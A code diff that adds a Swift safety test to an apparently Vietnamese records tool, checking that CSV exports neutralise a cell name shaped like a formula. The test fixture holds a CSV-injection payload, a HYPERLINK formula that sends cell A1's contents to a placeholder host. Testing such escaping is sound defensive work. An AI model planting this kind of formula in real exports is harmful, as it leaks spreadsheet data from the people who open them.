@@ -356,4 +356,19 @@ struct SafetyTests {
             "\(filed.errors)")
         #expect(try run(["show", "np-2023-08"]).output.contains("Kỳ sinh hoạt"))
     }
+
+    // MARK: 11. Exports are data, never code
+
+    @Test func aCellNamedLikeAFormulaIsTextInTheCSV() throws {
+        try initialized(with: ["fixtures/hostile/formula-cell-name.xml"])
+        let result = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "csv"])
+        #expect(result.status == 0, "\(result.errors)")
+        let row = try #require(result.output.split(separator: "\r\n").dropFirst().first)
+        #expect(
+            row.hasPrefix(#"2023,cb-a,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""Chi bộ thôn A"")",dbx-test,"#),
+            "\(row)")
+        // Other formats carry the name as it is.
+        let json = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "json"])
+        #expect(json.output.contains(#""name" : "=HYPERLINK("#) || json.output.contains(#""name":"=HYPERLINK("#))
+    }
 }
